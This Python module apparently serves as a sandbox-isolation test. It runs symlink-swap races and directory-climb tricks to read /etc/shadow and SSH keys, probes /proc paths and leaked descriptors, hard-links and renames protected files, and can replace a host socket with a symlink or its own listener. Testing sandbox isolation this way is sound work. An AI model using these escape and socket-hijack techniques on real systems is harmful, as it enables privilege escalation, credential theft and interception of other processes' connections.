"""Races and tricks with links and names in its scratch space and /tmp."""

import os
import socket
import threading

from attempt import outcome, read, run

ROUNDS = 2000


def swap(home):
    """Makes names point elsewhere as fast as it can, while others look."""
    os.makedirs(home + "/real", exist_ok=True)
    stop, found = threading.Event(), []

    def turn():
        while not stop.is_set():
            for target in (home + "/real", "/proc/1/root", "/"):
                try:
                    os.symlink(target, home + "/next")
                    os.rename(home + "/next", home + "/link")
                except OSError:
                    pass

    turner = threading.Thread(target=turn)
    turner.start()
    for _ in range(ROUNDS):
        for name in ("/link/../../etc/shadow", "/link/etc/shadow", "/link/root/.ssh"):
            try:
                found.append(read(home + name))
            except OSError:
                pass
    stop.set()
    turner.join()
    if not found:
        raise PermissionError(13, "nothing")


def climb(home):
    """Goes up by a directory that is moved away below it."""
    os.makedirs(home + "/a/b/c", exist_ok=True)
    fd = os.open(home + "/a/b/c", os.O_RDONLY)
    os.rename(home + "/a/b", home + "/moved")
    for _ in range(20):
        fd = os.open("..", os.O_RDONLY, dir_fd=fd)
    if os.fstat(fd).st_ino == os.stat("/").st_ino and os.fstat(fd).st_dev == os.stat("/").st_dev:
        raise PermissionError(13, "its own root")


def descriptors():
    """Looks for directories that were left open from outside."""
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink("/proc/self/fd/" + name)
            if os.path.isdir("/proc/self/fd/" + name) and not target.startswith(("/proc", "/handler")):
                return
        except OSError:
            pass
    raise FileNotFoundError(2, "none")


def across(source, target):
    return lambda: os.link(source, target)


def f(event):
    attempts = {
        "left open": descriptors,
        "link swapped in /tmp": lambda: swap("/tmp"), "link swapped in /host": lambda: swap("/host"),
        "climb from /tmp": lambda: climb("/tmp"), "climb from /host": lambda: climb("/host"),
        "hard link to code": across("/handler/f.py", "/tmp/f.py"),
        "hard link to base": across("/usr/bin/env", "/tmp/env"),
        "rename code": lambda: os.rename("/handler/f.py", "/handler/g.py"),
        "replace /tmp": lambda: os.rename("/tmp", "/tmp2"),
        "replace /host": lambda: os.symlink("/", "/host2"),
        "up from code": lambda: read("/handler/../../../../etc/shadow"),
        "up by proc": lambda: read("/proc/self/root/../../etc/shadow"),
        "up by descriptor": lambda: read("/proc/self/cwd/../../../etc/shadow"),
    }
    answer = run(attempts)
    if event.get("socket"):
        # From now on whoever connects by name meets us, or nobody.
        answer["socket replaced"] = outcome(lambda: replace(event["socket"]))
    return answer


def replace(how):
    os.unlink("/host/ol.sock")
    if how == "link":
        os.symlink("/proc/1/root/etc/passwd", "/host/ol.sock")
    elif how == "own":
        f.s = socket.socket(socket.AF_UNIX)
        f.s.bind("/host/ol.sock")
        f.s.listen()
